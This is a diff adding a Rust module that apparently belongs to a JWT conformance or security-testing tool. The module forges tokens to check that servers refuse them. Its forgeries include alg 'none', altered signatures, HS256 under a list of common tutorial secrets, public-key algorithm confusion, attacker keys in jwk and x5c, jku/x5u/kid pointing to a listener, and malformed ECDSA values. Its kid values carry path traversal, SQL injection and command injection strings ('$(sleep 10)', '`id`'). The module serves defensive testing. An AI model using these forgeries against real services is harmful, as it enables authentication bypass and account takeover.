@@ -1,0 +1,488 @@
+//! What is done to a signed token from outside: algorithms, signatures, keys that a token brings
+//! along, and its text.
+//!
+//! Most of these need no key of the server's. Where a row has to be sure that only one check can
+//! refuse it, it signs with the server's own, and says so where that is not known.
+
+use aws_lc_rs::hmac;
+use serde_json::{Map, Value};
+
+use super::{Attacker, Expected, Finding, Row, Shot, Shots, Work, no_token};
+use crate::attack::attacker::now;
+use crate::attack::forge::{Edit, Form, Key, Token, b64, jwt, mac};
+use crate::attack::listener::Listener;
+use crate::error::{Error, Result};
+use crate::record::CaseOutcome;
+
+/// Secrets that are in examples, tutorials and defaults.
+const SECRETS: &[&str] = &[
+    "secret",
+    "Secret",
+    "SECRET",
+    "secretkey",
+    "secret-key",
+    "secret_key",
+    "my-secret",
+    "mysecret",
+    "my_secret_key",
+    "your-256-bit-secret",
+    "your-secret-key",
+    "your_jwt_secret",
+    "jwt-secret",
+    "jwt_secret",
+    "jwtsecret",
+    "JWT_SECRET",
+    "password",
+    "Password",
+    "passw0rd",
+    "123456",
+    "12345678",
+    "1234567890",
+    "qwerty",
+    "admin",
+    "root",
+    "test",
+    "testing",
+    "example",
+    "default",
+    "changeme",
+    "change-me",
+    "changeit",
+    "key",
+    "private",
+    "token",
+    "shhhhh",
+    "keyboard cat",
+    "supersecret",
+    "super-secret",
+    "topsecret",
+    "development",
+    "production",
+    "HS256",
+    "hmac",
+    "abc123",
+    "letmein",
+    "hello",
+    "null",
+    "undefined",
+    "0",
+    "00000000000000000000000000000000",
+];
+
+pub(super) fn rows() -> Vec<Row> {
+    use Expected::{Refused, RefusedHere};
+    let row = |id, what, expected, shots| Row { id, what, expected, work: Work::Shots(shots) };
+    vec![
+        row("4a", "`alg` is `none`, without a signature", Refused, |a| unsigned(a, "none")),
+        row("4b", "`alg` is `None`", Refused, |a| unsigned(a, "None")),
+        row("4c", "`alg` is `NONE`", Refused, |a| unsigned(a, "NONE")),
+        row("4d", "`alg` is `nOnE`", Refused, |a| unsigned(a, "nOnE")),
+        row("4e", "`alg` missing, empty or no string", Refused, no_algorithm),
+        row("5a", "an empty signature", Refused, |a| signature(a, |_| Vec::new())),
+        row("5b", "a signature without its last byte", Refused, |a| {
+            signature(a, |raw| raw[..raw.len() - 1].to_vec())
+        }),
+        row("5c", "a signature without its last four characters", Refused, |a| {
+            Ok(vec![text(&signed(a)?.text[..a.a.text().len() - 4])])
+        }),
+        row("5d", "a signature with a byte behind it", Refused, |a| {
+            signature(a, |raw| [raw, &[0]].concat())
+        }),
+        row("5e", "a signature of zeros", Refused, |a| signature(a, |raw| vec![0; raw.len()])),
+        row("5f", "a signature with one bit flipped, in every byte", Refused, flipped_bits),
+        row("5g", "B's claims under A's signature", Refused, spliced),
+        row("6a", "HS256 under an empty secret", Refused, |a| hs256(a, &[b""])),
+        row("6b", "HS256 under secrets that are in tutorials", Refused, |a| {
+            hs256(a, &SECRETS.iter().map(|secret| secret.as_bytes()).collect::<Vec<_>>())
+        }),
+        row("7a", "HS256 under the server's public key, in five forms", Refused, public_key),
+        row("8a", "other algorithms of the same key, rightly signed", Refused, other_signatures),
+        row("8b", "other names of algorithms over the right signature", Refused, other_names),
+        row("9a", "a key of the attacker's in `jwk`, HS256", Refused, |a| {
+            embedded(a, &Key::secret().map_err(|e| e.to_string())?)
+        }),
+        row("9b", "a key of the attacker's in `jwk`, ES256", Refused, |a| {
+            embedded(a, &Key::ecdsa().map_err(|e| e.to_string())?)
+        }),
+        row("9c", "a key of the attacker's in `jwk`, EdDSA", Refused, |a| {
+            embedded(a, &Key::ed25519().map_err(|e| e.to_string())?)
+        }),
+        Row {
+            id: "10a",
+            what: "`jku`, `x5u` and `kid` that lead to the attacker",
+            expected: Expected::Words("refused, and nobody comes"),
+            work: Work::Steps(addresses),
+        },
+        row("11a", "a certificate of the attacker's in `x5c`", Refused, certificate),
+        row("12h", "`kid` that is a path, under what is there", Refused, |a| {
+            let kids = ["../../../../dev/null", "/dev/null", "/invalid_path", "file:///dev/null"];
+            kid(a, &kids, b"")
+        }),
+        row("12i", "`kid` that is a query or a command", Refused, |a| {
+            let kids =
+                ["x' UNION SELECT '1';--", "' OR '1'='1", "|sleep 10", "$(sleep 10)", "`id`", "*"];
+            kid(a, &kids, b"1")
+        }),
+        row("23a", "`=` behind the token", RefusedHere, |a| {
+            Ok(vec![text(format!("{}=", signed(a)?.text))])
+        }),
+        row("23b", "`?` behind the token", RefusedHere, |a| {
+            Ok(vec![text(format!("{}?", signed(a)?.text))])
+        }),
+        row("23c", "bits left over behind the signature", RefusedHere, left_over),
+        row("23d", "the other alphabet of base64, `+` and `/`", RefusedHere, other_alphabet),
+        row("23e", "padding and spaces inside, rightly signed", Refused, padded),
+        row("24a", "one part", Refused, |a| parts(a, |h, _, _| h.into())),
+        row("24b", "two parts", Refused, |a| parts(a, |h, p, _| format!("{h}.{p}"))),
+        row("24c", "four parts", Refused, |a| parts(a, |h, p, s| format!("{h}.{p}.{s}.{s}"))),
+        row("24d", "five parts, as a JWE has", Refused, |a| {
+            parts(a, |h, p, s| format!("{h}..{p}.{s}.{s}"))
+        }),
+        row("24e", "a dot before the token", Refused, |a| {
+            parts(a, |h, p, s| format!(".{h}.{p}.{s}"))
+        }),
+        row("24f", "a dot behind the token", Refused, |a| {
+            parts(a, |h, p, s| format!("{h}.{p}.{s}."))
+        }),
+        row("24g", "the JSON form of the token", Refused, |a| {
+            parts(a, |h, p, s| {
+                format!(r#"{{"protected":"{h}","payload":"{p}","signature":"{s}"}}"#)
+            })
+        }),
+        row("26a", "an ECDSA signature in DER", Refused, |a| ecdsa(a, |raw| vec![der(raw)])),
+        row("26b", "an ECDSA signature of 63 and of 65 bytes", Refused, |a| {
+            ecdsa(a, |raw| vec![raw[..63].to_vec(), [&[0], raw].concat(), [raw, &[0]].concat()])
+        }),
+        row("26c", "an ECDSA signature with r or s of 0, 1, n-1 or n", Refused, |a| {
+            ecdsa(a, edges)
+        }),
+    ]
+}
+
+fn text(token: impl AsRef<[u8]>) -> Shot {
+    Shot::Credential(token.as_ref().to_vec())
+}
+
+/// The credential, where it is a signed token.
+fn signed<'a>(attacker: &'a Attacker<'_>) -> std::result::Result<&'a Token, String> {
+    let token = attacker.token.as_ref().filter(|_| attacker.form == Form::Jwt);
+    token.ok_or_else(|| match attacker.form {
+        Form::Jwe | Form::Paseto => format!("the credential is {}", attacker.form.name()),
+        form => no_token(form),
+    })
+}
+
+/// The same with other members of the header.
+fn header_with(token: &Token, members: &[(&str, Value)]) -> String {
+    let mut header = token.header.clone();
+    for (name, value) in members {
+        header.insert((*name).into(), value.clone());
+    }
+    Value::Object(header).to_string()
+}
+
+fn claims(token: &Token) -> Vec<u8> {
+    Edit::None.apply(&token.claims, now())
+}
+
+fn unsigned(attacker: &Attacker<'_>, algorithm: &str) -> Shots {
+    let token = signed(attacker)?;
+    let header = header_with(token, &[("alg", algorithm.into())]);
+    let bare = Value::Object(Map::from_iter([("alg".to_string(), algorithm.into())])).to_string();
+    let message = |header: &str| format!("{}.{}", b64(header), b64(claims(token)));
+    let (_, signature) = token.signed();
+    Ok(vec![
+        text(format!("{}.", message(&header))),
+        text(message(&header)),
+        text(format!("{}.{signature}", message(&header))),
+        text(format!("{}.", message(&bare))),
+    ])
+}
+
+fn no_algorithm(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let (_, signature) = token.signed();
+    let edits = [
+        Edit::Without("alg"),
+        Edit::Set("alg", r#""""#),
+        Edit::Set("alg", "null"),
+        Edit::Set("alg", r#"["{alg}"]"#),
+    ];
+    let shot = |edit: Edit, signature: &str| {
+        let header = edit.apply(&token.header, now());
+        let message = format!("{}.{}", b64(header), b64(claims(token)));
+        let signature = match attacker.key {
+            Some(key) if !signature.is_empty() => b64(key.sign(message.as_bytes())),
+            _ => signature.into(),
+        };
+        text(format!("{message}.{signature}"))
+    };
+    Ok(edits.into_iter().flat_map(|edit| [shot(edit, ""), shot(edit, signature)]).collect())
+}
+
+/// The token with another signature.
+fn signature(attacker: &Attacker<'_>, made: fn(&[u8]) -> Vec<u8>) -> Shots {
+    let (message, raw) = raw_signature(signed(attacker)?)?;
+    Ok(vec![text(format!("{message}.{}", b64(made(&raw))))])
+}
+
+fn raw_signature(token: &Token) -> std::result::Result<(&str, Vec<u8>), String> {
+    use base64::Engine as _;
+    let (message, signature) = token.signed();
+    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(signature);
+    match raw {
+        Ok(raw) if !raw.is_empty() => Ok((message, raw)),
+        _ => Err("its signature is no base64url".into()),
+    }
+}
+
+fn flipped_bits(attacker: &Attacker<'_>) -> Shots {
+    let (message, raw) = raw_signature(signed(attacker)?)?;
+    let flip = |at: usize| {
+        let mut raw = raw.clone();
+        raw[at] ^= 1 << (at % 8);
+        text(format!("{message}.{}", b64(raw)))
+    };
+    Ok((0..raw.len()).map(flip).collect())
+}
+
+fn spliced(attacker: &Attacker<'_>) -> Shots {
+    let (_, signature) = signed(attacker)?.signed();
+    let other = attacker.b.text();
+    let (message, _) = other.rsplit_once('.').ok_or("B's credential is no token")?;
+    Ok(vec![text(format!("{message}.{signature}"))])
+}
+
+fn hs256(attacker: &Attacker<'_>, secrets: &[&[u8]]) -> Shots {
+    let token = signed(attacker)?;
+    let header = header_with(token, &[("alg", "HS256".into())]);
+    let shot = |secret: &&[u8]| {
+        text(jwt(&header, claims(token), |message| mac(hmac::HMAC_SHA256, secret, message)))
+    };
+    Ok(secrets.iter().map(shot).collect())
+}
+
+fn public_key(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    if token.algorithm().starts_with("HS") {
+        return Err("its key has no public half".into());
+    }
+    let key = attacker.key.ok_or("needs the server's key")?;
+    let forms = key.public_forms();
+    hs256(attacker, &forms.iter().map(Vec::as_slice).collect::<Vec<_>>())
+}
+
+fn other_signatures(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let key = attacker.key.ok_or("needs the server's key")?;
+    let shots: Vec<_> = ["HS384", "HS512", "RS384", "RS512", "PS256"]
+        .into_iter()
+        .filter_map(|algorithm| {
+            let header = header_with(token, &[("alg", algorithm.into())]);
+            let message = format!("{}.{}", b64(header), b64(claims(token)));
+            let signature = key.sign_as(algorithm, message.as_bytes())?;
+            Some(text(format!("{message}.{}", b64(signature))))
+        })
+        .collect();
+    if shots.is_empty() {
+        return Err("there is one algorithm for its key".into());
+    }
+    Ok(shots)
+}
+
+fn other_names(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let key = attacker.key.ok_or("needs the server's key")?;
+    let names = [
+        "none", "hs256", "HS256", "HS384", "HS512", "RS256", "RS384", "PS256", "ES256", "ES256K",
+        "ES384", "EdDSA", "Ed25519", "HS256 ", "dir",
+    ];
+    let shot = |name: &str| {
+        let header = header_with(token, &[("alg", name.into())]);
+        text(jwt(header, claims(token), |message| key.sign(message)))
+    };
+    Ok(names.into_iter().filter(|name| *name != token.algorithm()).map(shot).collect())
+}
+
+/// A token under this key, which it brings along.
+fn brought(token: &Token, key: &Key, more: &[(&str, Value)]) -> String {
+    let mut members = vec![("alg", key.algorithm().into())];
+    members.extend_from_slice(more);
+    jwt(header_with(token, &members), claims(token), |message| key.sign(message))
+}
+
+fn embedded(attacker: &Attacker<'_>, key: &Key) -> Shots {
+    let token = signed(attacker)?;
+    let jwk: Value = serde_json::from_str(&key.jwk()).map_err(|e| e.to_string())?;
+    let mut without_kid = token.clone();
+    without_kid.header.remove("kid");
+    let mut named = jwk.clone();
+    named["kid"] = token.header.get("kid").cloned().unwrap_or_default();
+    Ok(vec![
+        text(brought(token, key, &[("jwk", jwk.clone())])),
+        text(brought(token, key, &[("jwk", named)])),
+        text(brought(&without_kid, key, &[("jwk", jwk)])),
+    ])
+}
+
+fn addresses(attacker: &mut Attacker<'_>) -> Result<Finding> {
+    let token = match signed(attacker) {
+        Ok(token) => token.clone(),
+        Err(why) => return Ok(Finding::not_applicable(why)),
+    };
+    let listener = Listener::new()?;
+    let keys = [Key::secret()?, Key::ecdsa()?, Key::ed25519()?];
+    let mut shots = Vec::new();
+    for key in keys.iter().chain(attacker.key) {
+        for (name, path) in [("jku", "jwks.json"), ("x5u", "chain.pem"), ("kid", "key")] {
+            shots.push(text(brought(&token, key, &[(name, listener.url(path).into())])));
+        }
+    }
+    let mut finding = super::fire(attacker, Expected::Refused, &shots);
+    let came = listener.connections();
+    if came > 0 {
+        finding.outcome = CaseOutcome::Accepted;
+        finding.found.push_str(&format!("; it came to the attacker {came} times"));
+    }
+    Ok(finding)
+}
+
+fn certificate(attacker: &Attacker<'_>) -> Shots {
+    use base64::Engine as _;
+    let token = signed(attacker)?;
+    let made = || -> Result<(Key, String)> {
+        let fail = |e: rcgen::Error| Error::Bug(format!("no certificate could be made: {e}"));
+        let pair = rcgen::KeyPair::generate().map_err(fail)?;
+        let names = vec!["localhost".to_string()];
+        let certificate = rcgen::CertificateParams::new(names)
+            .and_then(|params| params.self_signed(&pair))
+            .map_err(fail)?;
+        let text = base64::engine::general_purpose::STANDARD.encode(certificate.der());
+        Ok((Key::ecdsa_of(pair.serialized_der())?, text))
+    };
+    let (key, chain) = made().map_err(|e| e.to_string())?;
+    let chain = Value::Array(vec![chain.into()]);
+    Ok(vec![text(brought(token, &key, &[("x5c", chain)]))])
+}
+
+/// The token with these key names, under the server's key where it is known and under this secret.
+fn kid(attacker: &Attacker<'_>, kids: &[&str], secret: &[u8]) -> Shots {
+    let token = signed(attacker)?;
+    let mut shots = Vec::new();
+    for kid in kids {
+        let named = [("kid", Value::from(*kid))];
+        let header = header_with(token, &[&named[..], &[("alg", "HS256".into())]].concat());
+        let sign = |message: &[u8]| mac(hmac::HMAC_SHA256, secret, message);
+        shots.push(text(jwt(header, claims(token), sign)));
+        if let Some(key) = attacker.key {
+            let header = header_with(token, &named);
+            shots.push(text(jwt(header, claims(token), |message| key.sign(message))));
+        }
+    }
+    Ok(shots)
+}
+
+const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+
+/// Other texts of the same signature: bits behind its last byte that must be zero.
+fn left_over(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let (_, signature) = token.signed();
+    let spare = match signature.len() % 4 {
+        2 => 16,
+        3 => 4,
+        _ => return Err("its signature leaves no bits over".into()),
+    };
+    let (rest, last) = token.text.split_at(token.text.len() - 1);
+    let at = ALPHABET.find(last).ok_or("its signature is no base64url")?;
+    let others = (1..spare).filter_map(|bits| ALPHABET.get(at + bits..=at + bits));
+    Ok(others.map(|last| text(format!("{rest}{last}"))).collect())
+}
+
+fn other_alphabet(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let (message, signature) = token.signed();
+    if signature.contains(['-', '_']) {
+        let signature = signature.replace('-', "+").replace('_', "/");
+        return Ok(vec![text(format!("{message}.{signature}"))]);
+    }
+    let key = attacker.key.ok_or("its signature has neither `-` nor `_`")?;
+    // Letters that base64 writes with the two that its alphabets differ in.
+    let header = Edit::Set("typ", r#""~~~???~~~???""#).apply(&token.header, now());
+    let message = format!("{}.{}", b64(header), b64(claims(token)));
+    let message = message.replace('-', "+").replace('_', "/");
+    let signature = b64(key.sign(message.as_bytes())).replace('-', "+").replace('_', "/");
+    Ok(vec![text(format!("{message}.{signature}"))])
+}
+
+fn padded(attacker: &Attacker<'_>) -> Shots {
+    let token = signed(attacker)?;
+    let key = attacker.key.ok_or("needs the server's key")?;
+    let (message, _) = token.signed();
+    let (header, payload) = message.split_once('.').ok_or("it has no payload")?;
+    let resigned = |message: String| {
+        let signature = b64(key.sign(message.as_bytes()));
+        text(format!("{message}.{signature}"))
+    };
+    Ok(vec![
+        resigned(format!("{header}=.{payload}")),
+        resigned(format!("{header}.{payload}=")),
+        resigned(format!("{header}.{payload}==")),
+        resigned(format!("{header}.{payload} ")),
+        resigned(format!("{header}.{payload}?")),
+        resigned(format!("{header}.{payload}A")),
+    ])
+}
+
+fn parts(attacker: &Attacker<'_>, made: fn(&str, &str, &str) -> String) -> Shots {
+    let token = signed(attacker)?;
+    let mut parts = token.text.split('.');
+    let (Some(h), Some(p), Some(s)) = (parts.next(), parts.next(), parts.next()) else {
+        return Err("it has not three parts".into());
+    };
+    Ok(vec![text(made(h, p, s))])
+}
+
+fn ecdsa(attacker: &Attacker<'_>, made: fn(&[u8]) -> Vec<Vec<u8>>) -> Shots {
+    let token = signed(attacker)?;
+    let (message, raw) = raw_signature(token)?;
+    if token.algorithm() != "ES256" || raw.len() != 64 {
+        return Err("its signature is none of ES256".into());
+    }
+    Ok(made(&raw).into_iter().map(|raw| text(format!("{message}.{}", b64(raw)))).collect())
+}
+
+/// The signature as two integers of ASN.1.
+fn der(raw: &[u8]) -> Vec<u8> {
+    let integer = |half: &[u8]| {
+        let zeros = half.iter().take_while(|byte| **byte == 0).count().min(half.len() - 1);
+        let digits = &half[zeros..];
+        let sign: &[u8] = if digits[0] >= 0x80 { &[0] } else { &[] };
+        let length = (sign.len() + digits.len()) as u8;
+        [&[2, length], sign, digits].concat()
+    };
+    let (r, s) = raw.split_at(raw.len() / 2);
+    let both = [integer(r), integer(s)].concat();
+    [&[0x30, both.len() as u8][..], &both].concat()
+}
+
+/// Signatures with a half at the edge of what may be, n being the order of P-256 (SEC 2, 2.4.2).
+fn edges(raw: &[u8]) -> Vec<Vec<u8>> {
+    const N: [u8; 32] = [
+        0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
+        0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63,
+        0x25, 0x51,
+    ];
+    let (zero, mut one, mut below) = ([0; 32], [0; 32], N);
+    one[31] = 1;
+    below[31] -= 1;
+    let edges = [zero, one, below, N];
+    let (r, s) = raw.split_at(32);
+    let mut all = Vec::new();
+    for edge in edges {
+        all.push([&edge, s].concat());
+        all.push([r, &edge].concat());
+        all.extend(edges.iter().map(|other| [edge, *other].concat()));
+    }
+    all
+}
